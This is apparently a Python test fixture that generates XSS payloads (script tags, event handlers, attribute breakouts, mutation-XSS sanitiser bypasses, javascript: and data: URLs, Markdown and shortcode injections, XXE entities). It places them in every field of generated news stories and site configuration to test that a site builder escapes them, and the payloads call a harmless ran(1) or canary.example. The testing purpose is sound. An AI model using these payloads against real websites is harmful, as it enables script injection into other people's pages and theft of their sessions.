"""Attempts to run a script from content, by family; each calls ran() or asks canary.example.

Original forms of known techniques; what they share is that a browser would run them if one
letter of them came into a page unescaped.
"""

import json

RUN = "ran(1)"
CANARY = "canary.example"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT type=module>{RUN}</SCRIPT >",
    f"<script src=//{CANARY}/a.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script/x>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'//",
    f'<image href=x onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>press</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<math><a xlink:href=javascript:{RUN}>press</a></math>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe src=//{CANARY}/></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data=//{CANARY}/x type=text/html></object>",
    f"<embed src=//{CANARY}/x>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video poster=//{CANARY}/x></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<input type=image src=x onerror={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<a href=# autofocus onfocus={RUN}>x</a>",
    f"<p tabindex=0 autofocus onfocus={RUN}>x</p>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN} form=f>x</button>",
    f"<base href=//{CANARY}/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<meta http-equiv=refresh content="0;url=//{CANARY}/">',
    f"<link rel=stylesheet href=//{CANARY}/a.css>",
    f"<link rel=preload as=script href=//{CANARY}/a.js>",
    f"<style>@import '//{CANARY}/a.css';</style>",
    f"<style>body{{background:url(//{CANARY}/a)}}</style>",
    f'<p style="background:url(//{CANARY}/a)">x</p>',
    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<table background=//{CANARY}/a><tr><td>x</table>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<dialog open oncancel={RUN}>x</dialog>",
    f"<x onclick={RUN} onmouseover={RUN}>x</x>",
)
BREAKOUTS = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex="0" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"` onfocus=`{RUN}` autofocus ",
    f"x onerror={RUN} src=x ",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"}}</script><img src=x onerror={RUN}>',
    f"</textarea></style></noscript></template><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"--!><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--<script>\nx</script><script>{RUN}</script>".replace("\n", " "),
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<![CDATA[]]><script>{RUN}</script>",
    f'\\"}};{RUN};//',
    f"';{RUN};'",
    f"*/{RUN}/*",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"{{{{ {RUN} }}}}{{% for x in y %}}",
    f"{{{{ ''.__class__ }}}}${{{RUN}}}",
    f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>',
    f'<?xml-stylesheet href="//{CANARY}/a.xsl" type="text/xsl"?>',
    f'<!DOCTYPE x [<!ENTITY y SYSTEM "http://{CANARY}/y">]>&y;',
    f'<xi:include href="http://{CANARY}/y" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
)
# What a sanitiser writes may be read in another way than what it read.
REREAD = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<p title="</noscript><img src=x onerror={RUN}>">x</p>',
    f'<svg><foreignobject><p id="</svg><img src=x onerror={RUN}>">',
    f'<math><annotation-xml encoding="text/html"><p title="</math><img src=x onerror={RUN}>">',
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<select><template><style></select><img src=x onerror={RUN}>",
    f"<table><style><td></table><img src=x onerror={RUN}>",
    f"<details><summary><plaintext></details><img src=x onerror={RUN}>",
    f"<ol start='1' onclick={RUN}><li value=1><p><ol><img src=x onerror={RUN}",
    f"<span lang='en\" onmouseover={RUN} x=\"'>x</span>",
    f"<td align='\"><script>{RUN}</script>'>x</td>",
    f"<time datetime='\"><svg onload={RUN}>'>x</time>",
    f'<a href="x" title="&quot;><img src=x onerror={RUN}>">x</a>',
)
TEXTS = ELEMENTS + BREAKOUTS + REREAD

# What stands for a URL; {} is put into its place in Markdown and in HTML.
URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"javascript:/*x*/{RUN}",
    f"vbscript:{RUN}",
    "data:text/html,<script>parent.ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=ran(1)>",
    "blob:https://paper.example/x",
    "view-source:x",
    f"feed:javascript:{RUN}",
    f"jar:javascript:{RUN}",
)
# A link, a picture or a note whose parts are the attempt.
MARKDOWN = (
    "[press]({})",
    "[press](<{}>)",
    "<{}>",
    "[press][r]\n\n[r]: {}",
    "![picture]({})",
    '<a href="{}">press</a>',
    "<a href='{}' target=_blank>press</a>",
    '<img src="{}">',
    '<blockquote cite="{}">x</blockquote>',
)
FORMS = (
    f'[a](x "t\\" onmouseover={RUN} x=\\"")',
    f"[a](x 't' onmouseover={RUN})",
    f'![a](x.jpg "t | c\\" onerror={RUN}")',
    f'![a" onerror="{RUN}](missing.jpg)',
    f"# <img src=x onerror={RUN}> heading",
    f'# "><script>{RUN}</script>',
    f'```"><script>{RUN}</script>\ncode\n```',
    f"~~~ {{.x onclick={RUN}}}\ncode\n~~~",
    f"`<script>{RUN}</script>`",
    f"    <script>{RUN}</script>",
    f'| a | b |\n| - | - |\n| <svg onload={RUN}> | "><script>{RUN}</script> |',
    f'ABC\n\n*[ABC]: "><script>{RUN}</script>',
    f"a[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f'a[^"><svg onload={RUN}>]\n\n[^"><svg onload={RUN}>]: x',
    f"text {{: onclick={RUN} }}",
    f"{{{{youtube aqz-KE-bpKQ <script>{RUN}</script>}}}}",
    f'{{{{youtube aqz-KE-bpKQ " onclick={RUN} x=" | | "><svg onload={RUN}>}}}}',
    f"{{{{instagram C1aB2cD3eF4 '><img src=x onerror={RUN}>}}}}",
    f"> [!pull]\n> <b onclick={RUN}>x</b>\n>\n> — <script>{RUN}</script>",
    f"term\n: <svg onload={RUN}>",
    f"[![a](x.jpg)](javascript:{RUN})",
    f"<p\nonclick={RUN}\n>x</p>",
    f"<div markdown=1 onclick={RUN}>*x*</div>",
    f"\\<script>{RUN}\\</script>",
)


def bodies() -> list[str]:
    """Give every attempt that a body can hold, one a paragraph's worth."""
    linked = [form.format(url) for form in MARKDOWN for url in URLS]
    return [*FORMS, *linked]


FIELDS = 10  # of a story's head that say attempts
STORIES = len(TEXTS) // 2


def story(number: int, body: str) -> str:
    """Write a story that says attempts wherever a text may stand, in each place another."""
    texts = (TEXTS[(number + place * STORIES // 3) % len(TEXTS)] for place in range(FIELDS))
    said = [json.dumps(text, ensure_ascii=False) for text in texts]
    return f"""\
-- content/sports/attempt-{number:03}/en.md --
---
title: {said[0]}
deck: {said[1]}
date: 2026-11-{number % 20 + 1:02}
tags: [{said[2]}]
authors: [{said[3]}]
series: {said[4]}
image: {{src: p.svg, alt: {said[5]}, caption: {said[6]}, credit: {said[7]}}}
source: {{name: {said[8]}, url: "https://x.example/?a=%22%3E%3Cscript%3E&b='onerror=1"}}
corrections: [{{date: 2026-11-21, note: {said[9]}}}]
breaking: {"true" if number % 9 == 0 else "false"}
kind: {("article", "opinion", "explainer", "factcheck", "video")[number % 5]}
---
{TEXTS[number]}

{body}

{TEXTS[number + STORIES]}
-- content/sports/attempt-{number:03}/p.svg --
<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800"><path d="M0 0h9v9z"/></svg>
"""


def site(text: str) -> str:
    """Write a site.yaml whose every text is an attempt."""
    said = json.dumps(text, ensure_ascii=False)
    return f"""\
-- site.yaml --
title: {said}
tagline: {said}
base_url: https://paper.example/
timezone: UTC
languages:
  en: {{name: {said}, locale: en-IN}}
editions: [{{path: "", languages: [en]}}]
categories:
  sports: {{name: {said}, description: {said}}}
authors:
  desk: {{name: {said}, kind: organization, url: "https://x.example/?a=%22%3E"}}
social: [{{name: {said}, url: "https://x.example/?a='onclick=1"}}]
podcasts: [{{name: {said}, url: "https://x.example/"}}]
publisher: {{name: {said}}}
"""


OF_SITE = 9  # texts of site()
